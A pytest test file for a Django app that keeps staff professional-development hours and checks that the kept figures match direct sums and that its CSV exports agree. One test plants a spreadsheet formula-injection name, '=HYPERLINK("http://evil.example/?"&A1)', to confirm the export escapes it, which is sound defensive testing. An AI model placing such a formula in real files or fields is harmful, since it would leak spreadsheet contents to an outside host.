"""The PD hours the reports read are kept (pd.hours), not summed per request: after every
kind of write the kept figures equal the direct computation (pd.selectors.staff_hours)."""

import ast
import inspect
import io
from datetime import timedelta
from decimal import Decimal

import pytest
from django.contrib.admin.sites import site
from django.core.management import call_command
from django.db import connection
from django.test import RequestFactory
from django.urls import reverse
from django.utils import timezone

from pd import hours, services
from pd.models import Attendance, CheckinMode, HoursWindow, PDSession, StaffHours
from pd.selectors import reports
from pd.tasks import _today_in, move_hours_windows
from schools.exports import column_values, csv_response, queryset_csv_response
from schools.models import Position, School, StaffMember
from tests.factories import AttendanceFactory, PDSessionFactory, StaffMemberFactory

pytestmark = pytest.mark.django_db

FIELDS = ["pk", "hours", "sessions", "job_embedded_hours", "ongoing_hours", "below_target"]


@pytest.fixture
def today():
    return timezone.localdate()


@pytest.fixture
def people(maple, cedar):
    return {
        "ana": StaffMemberFactory(school=maple, email="ana@maple.example.org"),
        "ben": StaffMemberFactory(school=maple, position=Position.COUNSELOR),
        "cy": StaffMemberFactory(school=cedar),
        "dee": StaffMemberFactory(school=cedar),  # never at PD
    }


@pytest.fixture
def kept(district, maple, cedar, people, today):
    """A term of PD at both schools, then the district's hours kept to today."""
    old = PDSessionFactory(schools=[maple], date=today - timedelta(days=400))
    AttendanceFactory(session=old, staff=people["ana"])  # before the window
    embedded = PDSessionFactory(
        schools=[maple, cedar], date=today - timedelta(days=30), job_embedded=True
    )
    for who in ("ana", "ben", "cy"):
        AttendanceFactory(session=embedded, staff=people[who])
    series = PDSessionFactory(schools=[cedar], date=today - timedelta(days=3), ongoing_series=True)
    AttendanceFactory(session=series, staff=people["cy"], hours=Decimal("0.5"))
    AttendanceFactory(session=series, staff=people["dee"], status="absent", hours=0)
    hours.keep_window(district_id=district.pk, until=today)
    return {"old": old, "embedded": embedded, "series": series}


def _staff(district):
    return StaffMember.objects.filter(school__district=district)


def assert_kept_equals_direct(district):
    window = HoursWindow.objects.get(district=district)
    period = reports.Period(since=hours.window_since(window.until), until=window.until)
    staff = _staff(district)
    kept = list(reports.kept_staff_hours(staff).order_by("pk").values(*FIELDS))
    direct = list(reports.staff_hours(staff, period).order_by("pk").values(*FIELDS))
    assert kept == direct
    assert reports.kept_hours_summary(staff) == reports.hours_summary(staff, period)
    # No row for nobody: a person without PD in the window has none.
    assert not StaffHours.objects.filter(hours=0, sessions=0).exists()


def test_the_kept_hours_are_the_direct_sums(district, kept):
    assert_kept_equals_direct(district)
    assert StaffHours.objects.count() == 3


def test_logging_a_session_and_adding_attendees(district, kept, maple, people, coach, today):
    session = PDSession(
        title="Feedback that moves learning",
        date=today - timedelta(days=1),
        duration_minutes=90,
        format="workshop",
        facilitator_user=coach,
    )
    services.session_log(
        session=session, schools=[maple], pillars=[], attendees=[people["ana"]], by=coach
    )
    assert_kept_equals_direct(district)
    services.attendees_add(session=session, staff=[people["ben"]], by=coach)
    assert_kept_equals_direct(district)
    assert StaffHours.objects.get(staff=people["ben"]).sessions == 2


def test_editing_attendance(district, kept, people, coach):
    series = kept["series"]
    rows = list(Attendance.objects.filter(session=series).order_by("pk"))
    services.attendance_update(
        session=series,
        rows=[(rows[0], "excused", None), (rows[1], "attended", Decimal("0.75"))],
        by=coach,
    )
    assert_kept_equals_direct(district)
    assert StaffHours.objects.get(staff=people["dee"]).hours == Decimal("0.75")


@pytest.mark.parametrize(
    "data",
    [
        {"duration_minutes": 180},
        {"job_embedded": False},
        {"ongoing_series": False},
        {"date_days_ago": 500},  # out of the window
    ],
)
def test_editing_a_session_that_changes_credit(district, kept, maple, cedar, coach, today, data):
    session = kept["embedded"]
    if "date_days_ago" in data:
        data = {"date": today - timedelta(days=data["date_days_ago"])}
    services.session_update(
        session=session, data=data, schools=[maple, cedar], pillars=[], by=coach
    )
    assert_kept_equals_direct(district)


def test_a_session_moved_into_the_window(district, kept, maple, coach, today, people):
    services.session_update(
        session=kept["old"],
        data={"date": today - timedelta(days=10)},
        schools=[maple],
        pillars=[],
        by=coach,
    )
    assert_kept_equals_direct(district)
    assert StaffHours.objects.get(staff=people["ana"]).sessions == 2


def test_a_check_in(district, kept, maple, people):
    session = PDSessionFactory(schools=[maple], checkin_mode=CheckinMode.OPEN)
    code = services.checkin_code_request(session=session, email="ana@maple.example.org")
    services.checkin_with_code(session=session, email="ana@maple.example.org", code=code.code)
    assert_kept_equals_direct(district)


def test_the_admins_edits_and_deletes(district, kept, admin_user):
    admin = site._registry[PDSession]
    request = RequestFactory().post("/")
    request.user = admin_user
    admin.delete_model(request, kept["series"])
    assert_kept_equals_direct(district)
    admin.delete_queryset(request, PDSession.objects.filter(pk=kept["embedded"].pk))
    assert_kept_equals_direct(district)
    assert not StaffHours.objects.exists()


def test_a_staff_member_removed_takes_their_row(district, kept, people):
    people["cy"].delete()
    assert_kept_equals_direct(district)


def test_the_nightly_task_moves_the_window_and_the_command_backfills(district, kept, today):
    later = timezone.now() + timedelta(days=40)
    hours.keep_window(district_id=district.pk, until=_today_in(district.time_zone, later))
    assert_kept_equals_direct(district)  # the embedded session of 30 days ago still counts
    StaffHours.objects.all().delete()
    HoursWindow.objects.all().delete()
    call_command("keep_pd_hours", stdout=io.StringIO())
    assert HoursWindow.objects.get(district=district).until == today
    assert_kept_equals_direct(district)
    assert move_hours_windows() >= 1
    assert_kept_equals_direct(district)


def test_the_report_reads_the_kept_hours_and_says_when(district, kept, login, district_admin):
    response = login(district_admin).get(reverse("pd:reports"))
    assert response.status_code == 200
    assert response.context["kept_since"] is not None
    window = HoursWindow.objects.get(district=district)
    assert response.context["period"].until == window.until
    staff = _staff(district)
    period = response.context["period"]
    assert response.context["summary"] == reports.hours_summary(staff, period)
    shown = [(s.pk, s.hours) for s in response.context["page"]]
    direct = reports.staff_hours(staff, period).order_by("hours", "full_name", "pk")
    assert shown == [(s.pk, s.hours) for s in direct]
    assert b"move on each night" in response.content
    # A chosen period is summed directly.
    since = (window.until - timedelta(days=10)).isoformat()
    chosen = login(district_admin).get(reverse("pd:reports"), {"since": since})
    assert chosen.context["kept_since"] is None


def test_every_write_of_attendance_in_the_services_keeps_the_hours():
    """A function of pd.services that writes attendance rows (or changes a session's credit)
    calls pd.hours in the same function: a new write path cannot forget it."""
    text = inspect.getsource(services)
    writes = (
        "Attendance.objects.bulk_create",
        "Attendance.objects.bulk_update",
        "_check_in(",
        ").update(hours=",
    )
    writers, missing = [], []
    for node in ast.parse(text).body:
        if isinstance(node, ast.FunctionDef) and not node.name.startswith("_"):
            source = ast.get_source_segment(text, node)
            if any(w in source for w in writes):
                writers.append(node.name)
                if "kept_hours." not in source:
                    missing.append(node.name)
    assert set(writers) >= {
        "session_log",
        "session_update",
        "attendance_update",
        "attendees_add",
        "checkin_with_code",
    }
    assert not missing, missing


@pytest.mark.skipif(connection.vendor != "postgresql", reason="COPY is PostgreSQL's")
@pytest.mark.parametrize("since_days", [None, 45])  # kept, then summed directly
def test_the_hours_csv_written_by_copy_is_the_python_paths(district, kept, people, since_days):
    people["ana"].full_name = '=HYPERLINK("http://evil.example/?"&A1)'
    people["ana"].save()
    people["cy"].full_name = 'Cy "the coach", Niño\nsecond line'
    people["cy"].save()
    since = timezone.localdate() - timedelta(days=since_days) if since_days else None
    scope = reports.report_scope(
        schools=School.objects.filter(district=district),
        sessions=PDSession.objects.all(),
        since=since,
    )
    assert (scope.kept_since is None) == bool(since_days)
    filename, columns, rows = reports.hours_export(scope)
    by_copy = b"".join(queryset_csv_response(filename, columns, rows).streaming_content)
    header = [c.header for c in columns]
    by_python = b"".join(
        csv_response(filename, header, column_values(rows, columns)).streaming_content
    )
    assert by_copy == by_python
    assert b"'=HYPERLINK" in by_copy


@pytest.mark.parametrize(
    "bad",
    [{"since": "not a date"}, {"school": "999999"}, {"since": "2026-02-01", "until": "2026-01-01"}],
)
def test_an_export_whose_period_was_not_understood_sends_nothing(login, coach, maple, bad):
    response = login(coach).get(reverse("pd:reports"), {"export": "hours", **bad})
    assert response.status_code == 400
    assert not response.streaming
    assert b"Nothing was exported" in response.content
